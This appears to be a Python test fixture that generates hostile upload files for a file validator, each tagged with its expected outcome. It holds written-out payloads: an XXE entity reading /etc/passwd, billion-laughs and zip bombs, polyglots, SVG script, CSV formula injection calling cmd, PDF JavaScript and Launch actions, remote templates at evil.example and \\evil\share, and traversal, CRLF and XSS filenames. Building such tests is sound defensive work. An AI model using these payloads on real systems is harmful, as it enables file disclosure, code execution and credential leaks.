"""Files made to deceive whoever takes them in, and what each of them comes to here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xd9"
XML = b"<?xml version='1.0' encoding='UTF-8'?>"
XXE = XML + b"<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><w>&e;</w>"
LAUGHS = XML + b"<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><w>&b;</w>"
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/settings.xml.rels"
EXE = b"MZ\x90\x00" + b"\0" * 60
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
KEPT, SAVED = "kept", "saved"
"""Taken in and shown, or taken in and only ever saved."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file as it is sent, and the fault that it is refused by, or what becomes of it."""

    about: str
    name: str
    content: bytes
    comes_to: str


def picture(*, after: bytes = b"", text: bytes = b"") -> bytes:
    """Return a PNG of one white pixel, with a comment and bytes behind its end."""
    parts = [
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        (b"tEXt", b"Comment\0" + text),
        (b"IDAT", zlib.compress(b"\0\xff")),
        (b"IEND", b""),
    ]
    chunks = (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + after


def office(ending: str = "docx", parts: Mapping[str, bytes] | None = None) -> bytes:
    """Return an office document with parts of one's own."""
    whole = {
        "docx": {TYPES: XML + b"<Types/>", "word/document.xml": XML + b"<w/>"},
        "xlsx": {TYPES: XML + b"<Types/>", "xl/workbook.xml": XML + b"<x/>"},
        "odt": {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": XML + b"<o/>",
        },
    }[ending]
    return archive({**whole, **(parts or {})})


def archive(parts: Mapping[str, bytes]) -> bytes:
    """Pack an archive."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return held.getvalue()


def _locked(content: bytes) -> bytes:
    """Mark every part of an archive as encrypted."""
    marked = bytearray(content)
    at = marked.find(b"PK\x01\x02")
    while at >= 0:
        marked[at + 8] |= 1
        at = marked.find(b"PK\x01\x02", at + 4)
    return bytes(marked)


def _relation(kind: str, target: str) -> dict[str, bytes]:
    about = f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return {RELATIONS: XML + f"<Relationships>{about}</Relationships>".encode()}


def _paper(inside: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + inside)


def _packed_action() -> bytes:
    hidden = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    objects = b"2 0 obj<</Type/ObjStm/N 1/First 0>>stream\n" + hidden + b"\nendstream endobj\n"
    return PDF.replace(b"trailer", objects + b"trailer")


def hostile_files() -> tuple[Hostile, ...]:
    """Return all of them."""
    return (*_deceiving(), *_archives(), *_reaching_out(), *_papers(), *_names())


def _deceiving() -> tuple[Hostile, ...]:
    return (
        Hostile("a program", "virus.exe", EXE, "wrong_kind"),
        Hostile("a program called a paper", "nota.pdf", EXE, "not_what_it_says"),
        Hostile("a double ending", "nota.pdf.exe", PDF, "wrong_kind"),
        Hostile("a harmless double ending", "nota.exe.pdf", PDF, KEPT),
        Hostile("a page called a paper", "nota.pdf", PAGE, "not_what_it_says"),
        Hostile("a page called a picture", "foto.png", PAGE, "not_what_it_says"),
        Hostile("a drawing with a script", "foto.svg", SVG, "wrong_kind"),
        Hostile("that called a picture", "foto.png", SVG, "not_what_it_says"),
        Hostile("a page called a text", "nota.txt", PAGE, SAVED),
        Hostile("a formula in a table", "dados.csv", b'=cmd|"/c calc"!A1\n', SAVED),
        Hostile("a text with zeros", "nota.txt", b"a\0b", "not_what_it_says"),
        Hostile("nothing", "nota.pdf", b"", "empty"),
        Hostile("nothing, an office document", "nota.docx", b"", "empty"),
        Hostile("a paper and a page", "nota.pdf", b"%PDF-1.7\n" + PAGE + PDF, "hides_another"),
        Hostile("a page before a paper", "nota.pdf", PAGE + PDF, "not_what_it_says"),
        Hostile(
            "a paper and an archive", "nota.pdf", PDF + archive({"a.txt": b"a"}), "hides_another"
        ),
        Hostile(
            "a picture and a program",
            "foto.png",
            picture(after=archive({"A.class": b"\xca\xfe\xba\xbe"})),
            "hides_another",
        ),
        Hostile(
            "a picture with a page in its comment", "f.png", picture(text=PAGE), "hides_another"
        ),
        Hostile("a picture with words behind its end", "f.png", picture(after=b"more"), KEPT),
        Hostile("a photograph with words behind its end", "f.jpg", JPEG + b"more" * 9, KEPT),
        Hostile(
            "a moving picture called a document", "a.docx", b"GIF89a" + office(), "not_what_it_says"
        ),
    )


def _archives() -> tuple[Hostile, ...]:
    much = b"0" * (21 * 2**20)
    many = {f"word/{n}.xml": b"<w/>" for n in range(1001)}
    macros = {TYPES: XML + b"<Types><x ContentType='application/x.macroEnabled.main'/></Types>"}
    return (
        Hostile("an archive", "nota.zip", archive({"a": b"a"}), "wrong_kind"),
        Hostile("an archive called a document", "a.docx", archive({"a": b"a"}), "not_what_it_says"),
        Hostile("a table called a document", "a.docx", office("xlsx"), "not_what_it_says"),
        Hostile("a bomb", "a.docx", office(parts={"word/a.xml": much}), "unfolds_too_far"),
        Hostile(
            "a bomb in a table", "a.xlsx", office("xlsx", {"xl/a.xml": much}), "unfolds_too_far"
        ),
        Hostile("parts without end", "a.docx", office(parts=many), "unfolds_too_far"),
        Hostile(
            "an archive within", "a.docx", office(parts={"word/a.zip": b"PK"}), "hides_another"
        ),
        Hostile("a program within", "a.docx", office(parts={"word/a.exe": EXE}), "hides_another"),
        Hostile("a way out", "a.docx", office(parts={"../../a.xml": b"<a/>"}), "not_what_it_says"),
        Hostile(
            "a damaged part",
            "a.docx",
            office()[:90] + b"\xff" * 9 + office()[99:],
            "not_what_it_says",
        ),
        Hostile("a password", "a.docx", _locked(office()), "locked"),
        Hostile(
            "a password or an old format", "a.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 60, "locked"
        ),
        Hostile("macros", "a.docx", office(parts={"word/vbaProject.bin": b"x"}), "has_macros"),
        Hostile("macros by their kind", "a.docx", office(parts=macros), "has_macros"),
        Hostile("macros in an ODT", "a.odt", office("odt", {"Basic/m.xml": b"<a/>"}), "has_macros"),
    )


def _reaching_out() -> tuple[Hostile, ...]:
    """Return what has whoever opens it read something else."""
    template = _relation("attachedTemplate", "https://evil.example/t.dotm")
    own = _relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")
    link = _relation("hyperlink", "https://mg.gov.br")
    share = _relation("oleObject", r"\\evil\share\a")
    odt = "nota.odt"
    return (
        Hostile("an entity", "a.docx", office(parts={"word/a.xml": XXE}), "reads_elsewhere"),
        Hostile(
            "an entity in a table", "a.xlsx", office("xlsx", {"xl/a.xml": XXE}), "reads_elsewhere"
        ),
        Hostile("an entity in an ODT", odt, office("odt", {"a.xml": XXE}), "reads_elsewhere"),
        Hostile("laughs", "a.docx", office(parts={"word/a.xml": LAUGHS}), "reads_elsewhere"),
        Hostile(
            "an entity in other letters",
            "a.docx",
            office(parts={"word/a.xml": XXE.decode().encode("utf-16")}),
            "reads_elsewhere",
        ),
        Hostile(
            "an entity behind a long comment",
            "a.docx",
            office(parts={"word/a.xml": b"<!--" + b"x" * 70_000 + b"-->" + XXE}),
            "reads_elsewhere",
        ),
        Hostile("a template elsewhere", "a.docx", office(parts=template), "reads_elsewhere"),
        Hostile("an object elsewhere", "a.docx", office(parts=share), "reads_elsewhere"),
        Hostile("one's own template", "a.docx", office(parts=own), SAVED),
        Hostile("a link to click", "a.docx", office(parts=link), SAVED),
    )


def _papers() -> tuple[Hostile, ...]:
    return (
        Hostile("a script", "a.pdf", _paper(b"/OpenAction<</S/JavaScript/JS(x)>>"), SAVED),
        Hostile("a spelled-out script", "a.pdf", _paper(b"/OpenAction<</S/J#61vaScript>>"), SAVED),
        Hostile("a packed script", "a.pdf", _packed_action(), SAVED),
        Hostile("a program to start", "a.pdf", _paper(b"/OpenAction<</S/Launch/F(cmd)>>"), SAVED),
        Hostile("a file within", "a.pdf", _paper(b"/Names<</EmbeddedFiles 3 0 R>>"), SAVED),
        Hostile("only a link", "a.pdf", _paper(b"/A<</S/URI/URI(https://mg.gov.br)>>"), KEPT),
    )


def _names() -> tuple[Hostile, ...]:
    names = (
        "../../etc/passwd.pdf",
        "C:\\Windows\\a.pdf",
        "a\0b.pdf",
        "a\u202efdp.pdf",
        "CON.pdf",
        "n" * 300 + ".pdf",
        "a\r\nSet-Cookie: x=1.pdf",
        'a"; filename="b.exe.pdf',
        "<img src=x onerror=alert(1)>.pdf",
        "{{7*7}}%00.pdf",
    )
    named = tuple(Hostile(f"the name {name[:30]!r}", name, PDF, KEPT) for name in names)
    return (*named, Hostile("no name but an ending", ".pdf", PDF, "wrong_kind"))
